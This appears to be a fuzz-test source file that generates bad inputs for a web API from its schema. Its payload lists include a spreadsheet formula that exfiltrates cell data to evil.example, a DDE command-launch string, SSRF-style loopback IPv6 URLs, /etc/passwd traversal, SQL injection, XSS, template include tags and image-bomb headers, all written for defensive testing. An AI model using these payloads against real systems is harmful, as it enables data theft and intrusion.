/**
 * fast-check generators of bad input from a JSON schema (the OpenAPI document's): wrong types,
 * boundaries, odd Unicode, long strings, and real ids and uuids of both agencies. A value is
 * sometimes valid-looking, so requests also get past validation into the services.
 */
import fc from 'fast-check';
import type { FuzzWorld } from './world.ts';

export type Schema = Record<string, unknown>;

const ODD_NUMBERS = [0, -1, 1, 2 ** 31 - 1, 2 ** 31, -(2 ** 31) - 1, 2 ** 53, 1e20, -1e20, 0.5, 1e-9, Number.MAX_SAFE_INTEGER];

/** Digit strings beyond the integer id columns (docs/security.md "Bad input"). */
export const OVER_RANGE_DIGITS = ['2147483648', '4294967296', '9007199254740993', '99999999999999999999', '0', '-2147483649', '00000000000000000000002147483648'];
/** Liquid tags that read other templates (refused at parse). */
export const TEMPLATE_TAGS = ['{% include "x" %}', "{% render 'partial' %}", '{% layout "base" %}body', '{% include job.title %}', '{{ job.reference }}{% render "a" with job as j %}'];
/** URLs whose host is an IPv6 form embedding a private or loopback IPv4 address. */
export const IPV6_FORMS = [
  'https://[::7f00:1]/', 'https://[::127.0.0.1]/hook', 'https://[::ffff:7f00:1]/', 'https://[::ffff:0:a00:1]/', 'https://[2002:7f00:1::]/',
  'https://[2002:c0a8:101::1]/', 'https://[64:ff9b::a9fe:a9fe]/', 'https://[64:ff9b:1::808:808]/', 'https://[2001:0:808:808::f5f5:f5fe]/', 'https://[fe80::1%25eth0]/',
];
/** Bidirectional control characters (stripped from file names and Content-Disposition). */
export const BIDI_TEXT = ['invoice\u202efdp.exe', '\u2066x\u2069', '\u200f\u061c\u200e', '\u202a\u202b\u202c\u202d', 'photo\u202e gnp.jpg'];
/** Spreadsheet formula prefixes (neutralised in every export). */
export const FORMULA_TEXT = ['=HYPERLINK("http://evil.example/?d="&A2,"Ref")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+9)', '\t=1+1', '\r=1+1'];

const ODD_TEXT = [
  '', ' ', '\u0000', 'a\u0000b', '\ud800', 'x\udc00y', '\u202e\u0041', '😀'.repeat(3), 'Ω≈ç√', '%00', '../../etc/passwd',
  "'; drop table jobs; --", '<script>alert(1)</script>', '__proto__', '{"a":1}', '1e20', '-0', 'NaN', 'null', 'true',
  '0000-01-01', '9999-12-31', '2026-02-30', '2026-11-23T25:00:00Z', '+002026-01-01', 'a'.repeat(300), 'b'.repeat(5000),
  ...OVER_RANGE_DIGITS, ...TEMPLATE_TAGS, ...IPV6_FORMS, ...BIDI_TEXT, ...FORMULA_TEXT,
];

/** Any JSON value of a wrong kind. */
const wrongType = fc.oneof(
  fc.constantFrom<unknown>(null, true, false, [], {}, [1, 2], { nested: { deep: [null] } }),
  fc.constantFrom(...ODD_NUMBERS),
  fc.constantFrom(...ODD_TEXT),
  fc.string({ unit: 'binary', maxLength: 40 }),
);

function typesOf(schema: Schema): string[] {
  if (Array.isArray(schema.type)) return schema.type as string[];
  if (typeof schema.type === 'string') return [schema.type];
  for (const k of ['anyOf', 'oneOf']) {
    if (Array.isArray(schema[k])) return (schema[k] as Schema[]).flatMap(typesOf);
  }
  if (schema.const !== undefined) return [typeof schema.const];
  return [];
}

function first(schema: Schema): Schema {
  for (const k of ['anyOf', 'oneOf']) {
    if (Array.isArray(schema[k])) return (schema[k] as Schema[]).find((s) => s.type !== 'null') ?? schema;
  }
  return schema;
}

/** A plausible (often valid) value for the schema, drawing real ids and uuids from the world. */
function plausible(schema: Schema, world: FuzzWorld, name: string): fc.Arbitrary<unknown> {
  const s = first(schema);
  if (Array.isArray(s.enum) && s.enum.length > 0) return fc.constantFrom(...(s.enum as unknown[]));
  if (s.const !== undefined) return fc.constant(s.const);
  const type = typesOf(s)[0];
  if (type === 'integer' || type === 'number') {
    const ids = [...world.ids.own, ...world.ids.foreign];
    const min = typeof s.minimum === 'number' ? s.minimum : 0;
    const max = typeof s.maximum === 'number' ? Math.min(s.maximum, min + 1000) : min + 1000;
    return name.endsWith('id') || name === 'ID' ? fc.constantFrom(...ids) : fc.integer({ min: Math.ceil(min), max: Math.floor(max) });
  }
  if (type === 'boolean') return fc.boolean();
  if (type === 'array') return fc.array(plausible((s.items as Schema) ?? {}, world, name), { maxLength: 3 });
  if (type === 'object') return objectOf(s, world);
  if (s.format === 'uuid') return fc.constantFrom(...world.uuids.own, ...world.uuids.foreign, '00000000-0000-4000-8000-000000000000');
  if (s.format === 'date') return fc.constantFrom('2026-11-25', '2026-12-01', '1900-01-01', '2999-12-31');
  if (s.format === 'date-time') return fc.constantFrom('2026-11-25T10:00:00Z', '2026-12-01T00:00:00.000Z');
  if (s.format === 'email') return fc.constantFrom('fuzz@example.test', 'rita.agent@example.test');
  // Id-like text (a role given by id or code, an id typed as text): digits beyond the id columns.
  if (name === 'role' || /(^|_)id$/i.test(name)) return fc.oneof(fc.constantFrom(...OVER_RANGE_DIGITS), fc.string({ minLength: 1, maxLength: 12 }));
  if (name === 'url' || s.format === 'uri') return fc.constantFrom(...IPV6_FORMS, 'https://8.8.8.8/hook', 'http://203.0.113.9/hook');
  // Free text that reaches templates, exports and file names.
  // At least the schema's minLength (a 64-character challenge is longer than the usual 12).
  const minLength = typeof s.minLength === 'number' ? s.minLength : 1;
  const text = fc.string({ minLength, maxLength: Math.max(12, minLength) });
  return fc.oneof({ arbitrary: text, weight: 4 }, { arbitrary: fc.constantFrom(...TEMPLATE_TAGS, ...BIDI_TEXT, ...FORMULA_TEXT), weight: 1 });
}

/** A value for the schema: plausible most of the time, otherwise bad. */
export function valueFor(schema: Schema, world: FuzzWorld, name = ''): fc.Arbitrary<unknown> {
  return fc.oneof({ arbitrary: plausible(schema, world, name), weight: 3 }, { arbitrary: wrongType, weight: 2 });
}

/** An object for an object schema: a random subset of its properties, plus sometimes stray keys. */
export function objectOf(schema: Schema, world: FuzzWorld): fc.Arbitrary<Record<string, unknown>> {
  const props = (first(schema).properties ?? {}) as Record<string, Schema>;
  const required = new Set((first(schema).required as string[] | undefined) ?? []);
  const entries = Object.entries(props).filter(([k]) => k !== 'csrf_token');
  const record: Record<string, fc.Arbitrary<unknown>> = {};
  for (const [k, s] of entries) record[k] = valueFor(s, world, k);
  const requiredKeys = entries.map(([k]) => k).filter((k) => required.has(k));
  const body = fc.record(record, { requiredKeys }).map((o) => o as Record<string, unknown>);
  const stray = fc.dictionary(fc.constantFrom('agency_id', 'level', 'password_hash', 'constructor', 'x'), wrongType, { maxKeys: 2 });
  return fc.tuple(body, fc.option(stray, { freq: 4 })).map(([b, extra]) => ({ ...(extra ?? {}), ...b }));
}

/** A PNG signature and IHDR declaring `width` x `height` (CRC not checked by the readers). */
function pngHeader(width: number, height: number): Buffer {
  const ihdr = Buffer.alloc(25);
  ihdr.writeUInt32BE(13, 0);
  ihdr.write('IHDR', 4, 'ascii');
  ihdr.writeUInt32BE(width, 8);
  ihdr.writeUInt32BE(height, 12);
  ihdr.set([8, 0, 0, 0, 0], 16);
  return Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), ihdr, Buffer.from('0000000049454e44ae426082', 'hex')]);
}

/** A multipart body with one file part. */
function multipartFile(filename: string, data: Buffer): { type: string; payload: Buffer } {
  return {
    type: 'multipart/form-data; boundary=b',
    payload: Buffer.concat([Buffer.from(`--b\r\nContent-Disposition: form-data; name="file"; filename="${filename}"\r\n\r\n`), data, Buffer.from('\r\n--b--\r\n')]),
  };
}

/** A raw body that is not JSON of the schema at all: text, wrong content, broken multipart, image headers. */
export const rawBody = fc.constantFrom<{ type: string; payload: string | Buffer }>(
  multipartFile('bomb.png', pngHeader(30_000, 30_000)),
  multipartFile('zero.png', pngHeader(0, 0)),
  multipartFile('huge.png', pngHeader(0xffffffff, 0xffffffff)),
  multipartFile('photo\u202egnp.exe.png', pngHeader(2, 2)),
  multipartFile('=cmd.png', pngHeader(2, 2)),
  multipartFile('truncated.png', Buffer.from('89504e470d0a1a0a0000000d4948', 'hex')),
  { type: 'application/json', payload: '{"title": ' },
  { type: 'application/json', payload: '[]' },
  { type: 'application/json', payload: '"text"' },
  { type: 'application/json', payload: '{"__proto__": {"x": 1}}' },
  { type: 'text/plain', payload: 'hello' },
  { type: 'application/x-www-form-urlencoded', payload: 'priority=4&title=%00&x[y]=1' },
  { type: 'multipart/form-data', payload: '--x\r\n' },
  { type: 'multipart/form-data; boundary=b', payload: '--b\r\nContent-Disposition: form-data; name="file"; filename="a\u0000.pdf"\r\n\r\n%PDF-1.4\r\n--b--\r\n' },
  { type: 'multipart/form-data; boundary=b', payload: '--b\r\nContent-Disposition: form-data; name="file"\r\n\r\ntruncated' },
);
